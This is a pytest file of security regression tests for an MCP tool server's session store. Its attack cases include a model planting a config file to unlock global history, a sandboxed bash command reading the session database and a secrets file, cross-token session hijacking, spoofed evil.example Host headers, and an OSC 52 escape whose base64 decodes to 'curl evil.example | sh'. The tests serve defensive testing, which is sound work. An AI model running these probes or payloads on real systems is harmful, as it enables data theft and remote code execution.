"""Issue 30, item 4 (and the ``sessions show`` part of item 7): the session store belongs
to a principal, as an attacker tries it through the front doors.

Each ``test_attack_...`` is one attack that worked on main 1aa6fe3:

- a ``write_file`` of ``pyproject.toml`` turning on global history for the next session;
- sandboxed ``bash`` reading the session store (and the user config) from the host;
- under ``serve --http``, a second bearer token reading the first one's calls, in a shared
  workspace and (with global history allowed by the user) across workspaces;
- without tokens, a session id that ``list_sessions`` showed driving another client's
  session;
- a request the Host check refused still opening and recording a session;
- ``callgate sessions show`` copying a recorded OSC 52 (clipboard write) to the terminal.
"""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ..contrib.mcp_serve.http_support import INITIALIZE, Served, connect, post
from ..contrib.mcp_serve.test_server import run, text_of
from .support import LEAKED, SECRET, SECRET_WORD, replay, sessions_cli

TOKEN_A = "token-of-principal-a-0123456789abcdef"
TOKEN_B = "token-of-principal-b-fedcba9876543210"
HEX32 = re.compile(r"\b[0-9a-f]{32}\b")


def _ws(tmp_path: Path, name: str = "ws") -> Path:
    ws = tmp_path / name
    ws.mkdir()
    (ws / "notes.txt").write_text("hello world\n")
    return ws


def _recorded_sessions(env: dict[str, str] | None = None) -> list[dict[str, Any]]:
    import json

    listed = sessions_cli("list", "--json", "--children", env=env)
    assert listed.returncode == 0, listed.stderr
    return [json.loads(line) for line in listed.stdout.splitlines()]


# --- a planted config turns on global history ------------------------------------------------


def test_attack_planted_global_history_reads_another_workspaces_secret(tmp_path: Path) -> None:
    victim, attacker = _ws(tmp_path, "victim"), _ws(tmp_path, "attacker")
    replay(victim, [{"id": "s1", "name": "bash", "arguments": {"command": f"echo {SECRET}"}}])
    # the model writes the workspace config the next session reads
    planted = replay(attacker, [{"id": "w1", "name": "write_file", "arguments": {
        "path": "pyproject.toml",
        "content": "[tool.callgate.sessions]\nallow_global_history = true\n"}}])
    assert not planted["w1"]["is_error"], planted
    found = replay(attacker, [
        {"id": "h1", "name": "history", "arguments": {
            "operation": "search", "query": SECRET_WORD, "scope": "global",
            "kind": ["tool_input", "tool_output"]}},
        {"id": "l1", "name": "list_sessions", "arguments": {}}])
    assert LEAKED not in found["h1"]["content"]
    assert str(victim) not in found["l1"]["content"]
    # the refusal says why (the workspace cannot open every workspace's history)
    assert found["h1"]["is_error"] and "SESSIONS_GLOBAL_DISALLOWED" in str(found["h1"])


# --- the sandbox hides the store ---------------------------------------------------------------


@contextlib.contextmanager
def _outside_tmp() -> Iterator[Path]:
    """A private directory outside ``/tmp`` (the sandbox replaces ``/tmp`` with its own, so
    a state directory there would be hidden by accident, not by the policy)."""
    for parent in ("/var/tmp", os.path.expanduser("~")):
        if os.path.isdir(parent) and os.access(parent, os.W_OK):
            path = Path(tempfile.mkdtemp(prefix="callgate-trust-", dir=parent))
            try:
                yield path
            finally:
                shutil.rmtree(path, ignore_errors=True)
            return
    pytest.skip("no writable directory outside /tmp for a state directory")


def _bwrap_works() -> tuple[bool, str]:
    try:
        import callgate_sandbox
    except ImportError:
        return False, "callgate-sandbox is not installed"
    probe = callgate_sandbox.BwrapBackend().probe()
    return probe.ok, probe.detail


def test_attack_sandboxed_bash_reads_the_session_store_and_user_config(tmp_path: Path) -> None:
    ok, why = _bwrap_works()
    if not ok:
        pytest.skip(f"bubblewrap cannot run here: {why}")
    with _outside_tmp() as outside:
        home, config_home = outside / "state", outside / "config"
        home.mkdir()
        config_home.mkdir()
        (config_home / "config.toml").write_text(
            '[sandbox]\nenabled = true\n# deploy key: ghp_userconfigsecret0123456789\n')
        env = {"CALLGATE_HOME": str(home), "CALLGATE_CONFIG_HOME": str(config_home)}
        ws = _ws(tmp_path)
        plugins = "files,shell,capability,sessions,sandbox"
        replay(ws, [{"id": "s1", "name": "bash", "arguments": {"command": f"echo {SECRET}"}}],
               plugins=plugins, env=env)
        store_dir = home / "sessions"
        assert any(store_dir.iterdir())
        probe = (f"cat {store_dir}/sessions.sqlite3* 2>&1 | grep -ac {SECRET_WORD}; "
                 f"ls -a {home} {store_dir} 2>&1; cat {config_home}/config.toml 2>&1")
        got = replay(ws, [{"id": "r1", "name": "bash", "arguments": {"command": probe}}],
                     plugins=plugins, env=env)
        text = got["r1"]["content"]
        assert "sessions.sqlite3" not in text, text  # the store is not even listed
        assert "ghp_userconfigsecret" not in text, text
        assert re.match(r"0\b", text), text  # grep -c found no secret line
        # and the command did run, inside the sandbox
        assert "exit code" in text


# --- a second principal under serve --http ------------------------------------------------------


async def _plant_secret(client: Any) -> None:
    r = await client.call_tool("bash", {"command": f"echo {SECRET}"})
    assert not r.is_error, text_of(r)
    r = await client.call_tool("read_file", {"path": "notes.txt"})
    assert not r.is_error, text_of(r)


async def _everything_visible(client: Any) -> str:
    """All a client can learn from the session tools: the list, every listed session read
    with results, and history searches."""
    seen = []
    r = await client.call_tool("list_sessions", {"limit": 100})
    seen.append(text_of(r))
    for sid in set(HEX32.findall(text_of(r))):
        r = await client.call_tool("read_session", {"session": sid,
                                                    "show_tool_results": True})
        seen.append(text_of(r))
    for scope in ("project", "global"):
        r = await client.call_tool("history", {
            "operation": "search", "query": SECRET_WORD, "scope": scope,
            "kind": ["tool_input", "tool_output", "tool_error"]})
        seen.append(text_of(r))
    return "\n".join(seen)


def test_attack_second_token_reads_the_first_principals_calls(tmp_path: Path) -> None:
    ws = _ws(tmp_path)
    tokens = tmp_path / "tokens"
    tokens.write_text(f"{TOKEN_A}\n{TOKEN_B}\n")
    args = ["--http", "127.0.0.1:0", "--workspace", str(ws), "--token-file", str(tokens),
            "--surface", "full"]

    async def scenario() -> None:
        with Served(args) as served:
            async with connect(served.url, token=TOKEN_A) as a:
                await _plant_secret(a.client)
                own = await _everything_visible(a.client)
                assert LEAKED in own  # A reads its own calls
                async with connect(served.url, token=TOKEN_B) as b:
                    stolen = await _everything_visible(b.client)
                    assert LEAKED not in stolen, stolen
                    # B's own session is there; A's is not
                    assert "(this session)" in stolen

    run(scenario)


def test_attack_second_token_reads_other_workspaces_with_global_history(
        tmp_path: Path, user_config: Path) -> None:
    # the user (not the workspace) allows global history: it still means this principal's
    (user_config / "config.toml").write_text("[sessions]\nallow_global_history = true\n")
    root = tmp_path / "root"
    root.mkdir()
    tokens = tmp_path / "tokens"
    tokens.write_text(f"{TOKEN_A}\n{TOKEN_B}\n")
    args = ["--http", "127.0.0.1:0", "--workspace-root", str(root), "--token-file",
            str(tokens), "--surface", "full"]

    async def scenario() -> None:
        with Served(args) as served:
            async with connect(served.url, token=TOKEN_A) as a:
                r = await a.client.call_tool("bash", {"command": f"echo {SECRET}"})
                assert not r.is_error, text_of(r)
                async with connect(served.url, token=TOKEN_B) as b:
                    stolen = await _everything_visible(b.client)
                    assert LEAKED not in stolen, stolen
                async with connect(served.url, token=TOKEN_A) as a2:
                    # A's next session (another workspace) finds it: global is A's own
                    own = await _everything_visible(a2.client)
                    assert LEAKED in own, own

    run(scenario)


def test_attack_a_listed_session_id_drives_another_clients_session(tmp_path: Path) -> None:
    ws = _ws(tmp_path)
    target = ws / "notes.txt"

    async def scenario() -> None:
        with Served(["--http", "127.0.0.1:0", "--workspace", str(ws),
                     "--surface", "full"]) as served:
            async with connect(served.url) as a:
                r = await a.client.call_tool("read_file", {"path": "notes.txt"})
                assert not r.is_error, text_of(r)
                async with connect(served.url) as b:
                    listed = text_of(await b.client.call_tool("list_sessions", {}))
                    assert a.session_id not in listed, listed
                    candidates = set(re.findall(r"[0-9a-f]{32}", listed))
                    assert candidates  # the list is not empty: the ids just are not handles
                    for sid in candidates:
                        r = post(served.url, {
                            "jsonrpc": "2.0", "id": 9, "method": "tools/call",
                            "params": {"name": "edit_file", "arguments": {
                                "path": "notes.txt", "old_string": "hello",
                                "new_string": "pwned"}}},
                            {"mcp-session-id": sid, "mcp-protocol-version": "2025-06-18"})
                        assert r.status_code == 404, (sid, r.status_code, r.text)
                assert target.read_text() == "hello world\n"

    run(scenario)


def test_attack_a_host_check_refusal_records_a_session(tmp_path: Path) -> None:
    ws = _ws(tmp_path)
    with Served(["--http", "127.0.0.1:0", "--workspace", str(ws)]) as served:
        port = served.url.rsplit(":", 1)[1].split("/")[0]
        before = _recorded_sessions()
        for headers in ({"host": f"evil.example:{port}"}, {"origin": "http://evil.example"},
                        {"content-type": "text/plain"}):
            r = post(served.url, INITIALIZE, headers)
            assert r.status_code in (400, 403, 421), r.status_code
        # a POST without a session that is not a valid initialize opens nothing either
        r = post(served.url, {"jsonrpc": "2.0", "id": 2, "method": "tools/list"})
        assert r.status_code == 400, r.text
        broken = {**INITIALIZE, "params": {"capabilities": {}}}  # no protocol version
        assert post(served.url, broken).status_code == 400
        after = _recorded_sessions()
        assert after == before, after
        ok = post(served.url, INITIALIZE)
        assert ok.status_code == 200, ok.text
        assert len(_recorded_sessions()) == len(before) + 1  # the count can move


# --- sessions show and terminal escapes --------------------------------------------------------


def test_attack_sessions_show_writes_terminal_escapes(tmp_path: Path) -> None:
    ws = _ws(tmp_path)
    # OSC 52 sets the terminal's clipboard; CSI 2J clears the screen; a C1 CSI; a BEL
    payload = r"printf 'before\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\007\033[2J\302\233""" \
              r"31mafter\tkept\n'"
    got = replay(ws, [{"id": "p1", "name": "bash", "arguments": {"command": payload}},
                      {"id": "p2", "name": "read_file", "arguments": {
                          "path": "notes.txt\u001b]0;title\u0007"}}])
    assert "\u001b]52" in got["p1"]["content"]  # the model saw the raw bytes, as recorded
    [info] = _recorded_sessions()
    shown = sessions_cli("show", info["id"])
    assert shown.returncode == 0, shown.stderr
    out = shown.stdout
    for control in ("\u001b", "\u0007", "\u009b"):
        assert control not in out, repr(out)
    assert r"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07" in out  # shown, not acted on
    assert "after" in out and "notes.txt\\x1b]0;title\\x07" in out
    # the JSON form is escaped by JSON itself
    as_json = sessions_cli("show", info["id"], "--json")
    assert "\u001b" not in as_json.stdout and "\\u001b" in as_json.stdout
